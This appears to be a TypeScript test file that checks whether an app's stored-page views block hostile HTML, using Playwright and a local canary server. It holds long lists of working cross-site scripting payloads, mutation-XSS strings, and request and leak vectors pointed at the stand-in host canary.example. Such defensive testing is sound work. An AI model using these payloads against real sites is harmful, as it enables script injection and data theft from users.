import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
import { type Family, type Outcome, tryEach } from './attack';
import type { Stage } from './stage';

/* Pages of others, stored by Winnow and shown to a person in the picker, in its own address, and as a content kind. None may
   run a script, ask anything outside, or lead the person elsewhere. The canary's name leads to it in this browser alone, so
   pictures that Winnow itself fetches for the picker do not count. */

const CANARY = 'http://canary.example';
const RAN = `console.log('ran')`;

const SCRIPTS: readonly string[] = [
  `<script>${RAN}</script>`,
  `<ScRiPt\n>${RAN}</sCrIpT\t>`,
  `<script type=module>${RAN}</script>`,
  `<script src="data:text/javascript,${RAN}"></script>`,
  `<script src="${CANARY}/a.js"></script>`,
  `<script async defer src="//canary.example/a.js"></script>`,
  `<script type=importmap>{"imports":{"a":"data:text/javascript,${RAN}"}}</script><script type=module>import "a"</script>`,
  `<body onload="${RAN}">`,
  `<body onpageshow="${RAN}" onhashchange="${RAN}" onfocus="${RAN}">`,
  `<img src=x onerror="${RAN}">`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${RAN}">`,
  `<svg onload="${RAN}">`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RAN}"/></svg>`,
  `<svg><animate onbegin="${RAN}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to="${RAN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RAN}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RAN}</script></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RAN.replaceAll("'", '&quot;')}</script>"></iframe></foreignObject></svg>`,
  `<math><a xlink:href="javascript:${RAN}">click</a></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RAN}</script></annotation-xml></math>`,
  `<details open ontoggle="${RAN}"><summary>s</summary></details>`,
  `<input autofocus onfocus="${RAN}">`,
  `<video onerror="${RAN}"><source src=x></video>`,
  `<audio src=x onerror="${RAN}"></audio>`,
  `<marquee onstart="${RAN}">x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RAN}">x</b>`,
  `<b style="transition:color 1s" ontransitionend="${RAN}">x</b>`,
  `<iframe srcdoc="<script>top.console.log('ran')</script>"></iframe>`,
  `<iframe src="javascript:${RAN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RAN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RAN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RAN}</script>">`,
  `<object data="javascript:${RAN}"></object>`,
  `<a id=go href="javascript:${RAN}">click</a>`,
  `<a id=go href="java\nscript:${RAN}">click</a>`,
  `<a id=go href="&#x6a;avascript:${RAN}">click</a>`,
  `<a id=go href="\x01javascript:${RAN}">click</a>`,
  `<a id=go href="data:text/html,<script>${RAN}</script>" target=_top>click</a>`,
  `<form action="javascript:${RAN}"><button id=go>click</button></form>`,
  `<form><button id=go formaction="javascript:${RAN}">click</button></form>`,
  `<form id=f></form><button id=go form=f formaction="javascript:${RAN}">click</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RAN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RAN}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *"><script>${RAN}</script>`,
  // mutated by being parsed twice
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RAN}>">`,
  `<title><p title="</title><script>${RAN}</script>">`,
  `<xmp><p title="</xmp><script>${RAN}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RAN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RAN}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${RAN}>">`,
  `<template><script>${RAN}</script></template><template shadowrootmode=open><script>${RAN}</script></template>`,
  `<!--><script>${RAN}</script>-->`,
  `<!--!><script>${RAN}</script><!--`,
  `<![CDATA[><script>${RAN}</script>]]>`,
  `<plaintext><script>${RAN}</script>`,
  `<x contenteditable onbeforeinput="${RAN}" onfocus="${RAN}" autofocus tabindex=1>x`,
  `<h1 popover id=p onbeforetoggle="${RAN}">x</h1><button id=go popovertarget=p>click</button>`,
  `<dialog open onclose="${RAN}"><form method=dialog><button id=go>click</button></form></dialog>`,
  `<link rel=stylesheet href=x onerror="${RAN}"><link rel=stylesheet href="data:text/css,a" onload="${RAN}">`,
];

const REQUESTS: readonly string[] = [
  `<img src="${CANARY}/i" srcset="${CANARY}/s 2x">`,
  `<picture><source srcset="${CANARY}/p"><img src=x></picture>`,
  `<link rel=stylesheet href="${CANARY}/c">`,
  `<style>@import "${CANARY}/i"; @font-face{font-family:a;src:url(${CANARY}/f)} body{font-family:a;background:url(${CANARY}/b);cursor:url(${CANARY}/c),auto}</style>x`,
  `<style>body{background:image-set("${CANARY}/b" 1x);list-style:url(${CANARY}/l);border-image:url(${CANARY}/r) 1;mask:url(${CANARY}/m);filter:url(${CANARY}/f#x)}</style>x`,
  `<style>body{background:u\\72l(${CANARY}/b)}h1::before{content:url(${CANARY}/x)}</style><h1>x</h1>`,
  `<b style="background:url(${CANARY}/b)">x</b><table background="${CANARY}/t"><td background="${CANARY}/d">x</table>`,
  `<style>input[value^=a]{background:url(${CANARY}/leak)}</style><input value=abc>`,
  `<base href="${CANARY}/"><img src=i><link rel=stylesheet href=c><a id=go href=a>click</a>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}/r">`,
  `<meta http-equiv=refresh content="0,${CANARY}/r">`,
  `<meta http-equiv=refresh content="0;url=${CANARY}/r" id=a><noscript><meta http-equiv=refresh content="0;url=${CANARY}/n"></noscript>`,
  `<iframe src="${CANARY}/f"></iframe><frameset><frame src="${CANARY}/g"></frameset>`,
  `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${CANARY}/d'><img src=${CANARY}/e>"></iframe>`,
  `<object data="${CANARY}/o"></object><embed src="${CANARY}/e"><applet code="${CANARY}/a"></applet>`,
  `<video src="${CANARY}/v" poster="${CANARY}/p" autoplay></video><audio src="${CANARY}/a" autoplay></audio><video><track default src="${CANARY}/t"></video>`,
  ...[
    'prefetch',
    'preload',
    'modulepreload',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'icon',
    'manifest',
    'next',
    'import',
    'alternate stylesheet',
    'pingback',
  ].map((rel) => `<link rel="${rel}" as=image href="${CANARY}/${encodeURIComponent(rel)}">`),
  `<svg><image href="${CANARY}/i" xlink:href="${CANARY}/x"/><use href="${CANARY}/u#a"/><feImage href="${CANARY}/f"/></svg>`,
  `<svg><style>@import "${CANARY}/s";</style><rect fill="url(${CANARY}/r#a)" width=9 height=9 /></svg>`,
  `<input type=image src="${CANARY}/i"><body background="${CANARY}/b">`,
  `<form id=f action="${CANARY}/f" method=post><input name=a value=b><button id=go>click</button></form>`,
  `<a id=go href="${CANARY}/a" target=_top ping="${CANARY}/p">click</a>`,
  `<a id=go href="${CANARY}/a" target=_blank rel=opener>click</a>`,
  `<a id=go href="${CANARY}/a" download>click</a>`,
  `<a id=go href="//canary.example/a" target=_parent>click</a>`,
  `<map name=m><area id=go shape=default href="${CANARY}/m" target=_top></map><img usemap=#m width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${CANARY}/s"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${CANARY}/p"],"eagerness":"immediate"}]}</script>`,
  `<?xml-stylesheet href="${CANARY}/x"?><html manifest="${CANARY}/m"><portal src="${CANARY}/p"></portal><fencedframe src="${CANARY}/f"></fencedframe>`,
  `<img src="\n${CANARY.slice(0, 3)}\t${CANARY.slice(3)}/i"><img src="\\\\canary.example\\i"><img src=/\\canary.example/i>`,
  `<img lowsrc="${CANARY}/l" dynsrc="${CANARY}/d" longdesc="${CANARY}/g" src="x:x"><bgsound src="${CANARY}/b">`,
];

/** Counts connections, whatever is said on them. */
async function openCanary() {
  let connections = 0;
  const server = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return { port, connections: () => connections, stop: () => server.close() };
}

type Canary = Awaited<ReturnType<typeof openCanary>>;

function launch(canary: Canary): Promise<Browser> {
  return chromium.launch({
    executablePath: process.env.WINNOW_CHROMIUM ?? '/usr/bin/chromium',
    args: [
      ...['--no-sandbox', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
      ...['--no-first-run', '--disable-quic'],
      `--host-resolver-rules=MAP canary.example 127.0.0.1:${canary.port}`,
    ],
  });
}

const SETTLE_MS = 150; // after load, for what a page begins then

interface Watched {
  readonly page: Page;
  readonly canary: Canary;
  readonly ran: () => boolean;
}

/** What a page did while it was shown, in words; with whatever there is to press pressed. */
async function did({ page, canary, ran }: Watched, url: string, isPressed: boolean): Promise<string | null> {
  const before = canary.connections();
  await page.goto('about:blank');
  await page.goto(url, { waitUntil: 'load' });
  if (isPressed) for (const frame of page.frames()) await pressAll(frame);
  await page.waitForTimeout(SETTLE_MS);
  if (ran()) return 'ran a script';
  if (canary.connections() > before) return 'asked something outside';
  return page.url().startsWith(url) ? null : `led to ${page.url()}`;
}

async function pressAll(frame: Frame): Promise<void> {
  for (const each of await frame.locator('#go').all())
    await each.click({ timeout: 100, force: true, noWaitAfter: true }).catch(() => undefined);
}

/** In its own address a stored page is like any other: a person who presses a link goes where it leads. */
const isPlainLink = (payload: string) => /<(?:a id=go href="?(?:http|\/\/|a>)|area )/.test(payload);

async function shown(stage: Stage, payloads: readonly string[]): Promise<Outcome> {
  const canary = await openCanary();
  const browser = await launch(canary);
  try {
    const context = await browser.newContext();
    const page = await context.newPage();
    let ran = false;
    const watched: Watched = { page, canary, ran: () => ran };
    page.on('console', (message) => {
      if (message.text() === 'ran') ran = true;
    });
    page.on('dialog', (dialog) => {
      ran = true;
      void dialog.dismiss();
    });
    const control = await context.newPage();
    await control.goto(`${CANARY}/control`).catch(() => undefined);
    await control.close();
    if (canary.connections() === 0)
      throw new Error('The canary is not reached by a browser that wants to; nothing is measured.');
    const [name = '', value = ''] = stage.session.cookie.split('=');
    await context.addCookies([{ name, value, url: stage.baseUrl, httpOnly: true, sameSite: 'Strict' }]);
    await context.setExtraHTTPHeaders({ 'winnow-session': stage.session.proof });
    const forms: readonly (readonly [payload: string, at: (token: string) => string])[] = payloads.flatMap(
      (payload) =>
        [
          [payload, (token) => `${stage.baseUrl}/pages/${token}/html`],
          [payload, (token) => `${stage.baseUrl}/pages/${token}/picker`],
          [payload, (token) => `${stage.baseUrl}/pages/${token}/markdown`],
        ] as const,
    );
    const seen = await tryEach(forms, async ([payload, at]) => {
      ran = false;
      const token = await stage.store(`<!doctype html><title>T</title>${payload}<p>Some text of a page.</p>`);
      const said = await did(watched, at(token), !isPlainLink(payload));
      return said === null ? null : `${payload.slice(0, 60)} ${said} (${at('TOKEN').split('/').at(-1)})`;
    });
    const all = await stage.store(`<!doctype html><title>T</title><h1>Title</h1>${payloads.join('\n')}`);
    ran = false;
    const together = await did(watched, `${stage.baseUrl}/#/picker/${all}`, true);
    return {
      tries: seen.tries + 1,
      through: together === null ? seen.through : [...seen.through, `in the window: ${together}`],
    };
  } finally {
    await browser.close();
    canary.stop();
  }
}

export const hostilePages: Family = {
  name: 'Hostile pages in the page view',
  attacks: [
    { name: 'scripts', run: (stage) => shown(stage, SCRIPTS) },
    { name: 'requests and ways elsewhere', run: (stage) => shown(stage, REQUESTS) },
  ],
};
